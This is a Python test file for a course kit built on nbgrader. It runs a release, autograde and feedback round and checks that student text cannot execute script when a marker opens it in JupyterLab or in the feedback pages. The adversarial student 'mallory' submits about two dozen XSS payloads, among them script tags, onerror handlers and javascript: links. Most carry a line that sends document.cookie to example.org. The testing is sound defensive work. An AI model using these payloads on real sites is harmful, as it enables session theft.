"""A round of grading as kit/pages/grading.md tells it: release, autograde, mark, feed back.

    make test-kit

anna answers right and bert wrong. mallory answers right, makes text of an answer and of a check, as
the key M does, and writes what would run in the browser of the marker.
"""

import re
import socket
import subprocess
import sys
import time
import urllib.request

import nbformat
import pytest

from kit import chromium, course, grading, variants

from .browser import opened
from .rounds import environment, hand_in, marks, nbgrader, released, solutions

PATIENCE = 240_000  # milliseconds
SHEET, NAME, BY_HAND = "lesson01", "variant10", "derivation"
WRONG = {
    SHEET: {"quadratic_features": "def quadratic_features(x):\n    return x**2"},
    NAME: {"rank_needed": "def rank_needed(A, eps):\n    return 1"},
}
HINTS = {
    SHEET: "Hint: quadratic_features: the squares alone: the products x_i x_j are missing.",
    NAME: "Hint: rank_needed: found 1",
}
FORMULA = r"Thus $a_i < b_i$ and $\sum_i x_i \le 1$."
PHOTO = {"p.png": {"image/png": "iVBORw0KGgo="}}

# Each sets the title of the page to "reached", or asks an address outside, when the page is opened
# or a link in it is clicked.
RUN = "document.title='reached';fetch('http://example.org/'+document.cookie)"
TAG = f'<img src=x onerror="{RUN}">'
TEXTS = {
    "a script": f"<script>{RUN}</script>",
    "a script over lines": f"<ScRiPt\n>\n{RUN}\n</sCrIpT\n>",
    "a handler": TAG,
    "an animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    "a frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "a form": '<form action="http://example.org/"><button autofocus>Next &rarr;</button></form>',
    "a page that moves on": '<meta http-equiv="refresh" content="0;url=http://example.org/">',
    "a base for all links": '<base href="http://example.org/">',
    "a style": "<style>@import 'http://example.org/'; body {display: none}</style>",
    "an open tag": f'<img src=x onerror="{RUN}" x="',
    "a comment that ends": f"<!--> {TAG} -->",
    "code that is none": f"\\`{TAG}\\`",
    "a text in a formula": rf"$\text{{{TAG}}}$",
    "an environment": rf"\begin{{align}}{TAG}\end{{align}}",
    "a diagram": f"```mermaid\n{TAG}\n```",
    "a table": f"| a |\n|---|\n| {TAG} |",
    "a link": f"[x](javascript:{RUN})",
    "a link in disguise": f"[x](&#106;ava&Tab;script:{RUN})",
    "a link named elsewhere": f"[x]\n\n[x]: <java\nscript:{RUN}>",
    "an address": f"<javascript:{RUN}>",
    "a picture from outside": "![x](http://example.org/x.png)",
    "a picture that is not there": "![x](attachment:gone.png)",
    "a title": f"[x](y '\"> {TAG}')",
    "a heading": f'# x {TAG} {{#"><i>}}',
}
SHOWING = f"""\
from IPython.display import HTML, Javascript, Markdown, display
display(HTML({TAG!r}), Javascript({RUN!r}), Markdown({TAG!r}))
raise ValueError({TAG!r})"""
CLICKS = """() => document.querySelectorAll('#notebook a, math [href]').forEach(link => {
    if (!/^https?:/.test(link.href)) link.dispatchEvent(new MouseEvent('click'));
})"""


def mallory(nb):
    for cell in nb.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id")
        if name in ("attend", "check-fading"):
            cell.cell_type, cell.attachments = "markdown", PHOTO
            del cell["outputs"], cell["execution_count"]
        elif name == BY_HAND:
            cell.source = FORMULA
        cell.metadata["tags"] = [f'">{TAG}']
    nb.cells += [nbformat.v4.new_markdown_cell(text) for text in TEXTS.values()]
    nb.cells.append(nbformat.v4.new_code_cell(SHOWING))


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """A course in which all have submitted, were graded, and got feedback."""
    folder = tmp_path_factory.mktemp("grading") / "course"
    folder.mkdir()
    (folder / variants.SEED).write_text("of the kit")
    course.make(folder)
    for sheet in (SHEET, *(f"variant{lesson}" for lesson in variants.LESSONS)):
        nbgrader(folder, "generate_assignment", sheet, "--create")
    for sheet in (SHEET, NAME):
        right = solutions(folder, sheet)
        hand_in(folder, "anna", sheet, right)
        hand_in(folder, "bert", sheet, right | WRONG[sheet])
    hand_in(folder, "mallory", NAME, right, mallory)
    for sheet in (SHEET, NAME):
        nbgrader(folder, "autograde", sheet)
        nbgrader(folder, "generate_feedback", sheet)
    return folder


@pytest.fixture(scope="module")
def points(folder, tmp_path_factory):
    """What autograding alone gives."""
    return marks(folder, tmp_path_factory.mktemp("grades"))


def feedback(folder, who, sheet):
    """What the page of a student says, without its styles."""
    (path,) = (folder / "feedback" / who / sheet).glob("*.html")
    return path.read_text(encoding="utf-8").partition("<body")[2]


def test_right_answers_get_all_points_and_wrong_ones_none(points):
    assert (points[SHEET, "anna"], points[SHEET, "bert"]) == (3, 2)  # and 3 by hand
    assert (points[NAME, "anna"], points[NAME, "bert"]) == (6, 4)  # and 4 by hand


def test_what_was_made_text_of_by_a_key_costs_nothing(points):
    assert points[NAME, "mallory"] == 6


@pytest.mark.parametrize("sheet", [SHEET, NAME])
def test_feedback_names_the_mistake_and_shows_no_line_of_a_check(folder, sheet):
    said = feedback(folder, "bert", sheet)
    assert said.count("Hint: ") == 1
    assert HINTS[sheet] in said
    assert "Traceback" not in said
    assert "Hint: " not in feedback(folder, "anna", sheet)


def test_students_get_neither_solution_nor_hidden_test_nor_seed(folder):
    for lesson in variants.LESSONS:
        _, nb = released(folder, f"variant{lesson}")
        out, sheet = "\n".join(c.source for c in nb.cells), variants.sheet(lesson, "of the kit")
        assert out.count("raise NotImplementedError()") == len(sheet.tasks)
        assert "**Marked by hand:**" in out
        assert not re.search(r"SOLUTION|HIDDEN|variants", out)
        assert sheet.derivation.answer[:60] not in out
        for task in sheet.tasks:
            assert task.solution.split("\n")[-1] not in out.replace(task.text, "")
    _, nb = released(folder, SHEET)
    assert "SOLUTION" not in "".join(cell.source for cell in nb.cells)
    for kind in ("release", "feedback"):
        for path in (folder / kind).rglob("*.*"):
            assert "of the kit" not in path.read_text(encoding="utf-8"), path


def test_a_text_is_shown_with_its_formulas_and_a_pasted_picture():
    text = f"## A\n\n{FORMULA}\n\n1. `x<y` **b** [l](https://a.org)\n\n![](attachment:p.png)"
    said = grading.shown({"cell": {"attachments": PHOTO}}, text)
    assert FORMULA.replace("<", "&lt;") in said
    for tag in ("<h2>", "<p>", "<ol>", "<code>x&lt;y</code>", '<a href="https://a.org">'):
        assert tag in said
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in said


# Marking by hand in a browser


@pytest.fixture(scope="module")
def lab(folder, points):
    """The address of JupyterLab, started in the folder of the course once all is autograded."""
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    command = [sys.executable, "-m", "jupyterlab", "--no-browser", "--ServerApp.ip=127.0.0.1"]
    command += ["--allow-root", f"--ServerApp.port={port}", "--ServerApp.port_retries=0"]
    env = environment() | {"JUPYTER_TOKEN": "kit", "HOME": str(folder.parent)}
    with (folder.parent / "lab.log").open("w") as log:
        server = subprocess.Popen(command, cwd=folder, env=env, stdout=log, stderr=log)
        address = f"http://127.0.0.1:{port}/"
        for _ in range(480):
            time.sleep(0.25)
            if server.poll() is not None:
                pytest.fail((folder.parent / "lab.log").read_text())
            try:
                urllib.request.urlopen(f"{address}api", timeout=5).close()
                break
            except OSError:
                pass
        yield address
        server.terminate()
        server.wait()


def title_after_clicks(tab) -> str:
    """The title of a page once each of its links was clicked that leads to no other page."""
    tab.evaluate(CLICKS)
    tab.wait_for_timeout(500)
    return tab.title()


def unforeseen(faults):
    """All but that MathJax, which nbgrader has from another address, was not fetched here."""
    return [fault for fault in faults if not re.search("mathjax|ERR_FAILED", fault, re.I)]


def test_no_text_of_a_student_runs_where_answers_are_marked(folder, lab, browser, tmp_path):
    with opened(browser, lab, "lab?token=kit") as (tab, faults):  # which logs in
        faults.clear()  # JupyterLab's own
        tab.goto(f"{lab}formgrader/gradebook/{NAME}/variant_10")
        row = tab.locator("tbody tr", has_text="mallory")
        row.locator(".glyphicon-eye-open").click(timeout=PATIENCE)
        row.locator("a.name-shown").click()
        tab.wait_for_load_state("networkidle")  # the marks that there are have come
        tab.locator(f"#{BY_HAND}").fill("3")
        with tab.expect_response(lambda got: "/api/grade/" in got.url):
            tab.locator(f"#{BY_HAND}").blur()
        shown = tab.locator("#notebook").first.inner_text()
        assert FORMULA in shown
        assert f"<script>{RUN}</script>" in shown
        assert title_after_clicks(tab) == "variant_10"
        assert unforeseen(faults) == []
    assert marks(folder, tmp_path)[NAME, "mallory"] == 6 + 3


def test_no_text_of_a_student_runs_in_feedback(folder, browser):
    with (
        chromium.served(folder / "feedback/mallory" / NAME) as address,
        opened(browser, address, "variant_10.html") as (tab, faults),
    ):
        assert title_after_clicks(tab) == "variant_10"
        assert unforeseen(faults) == []
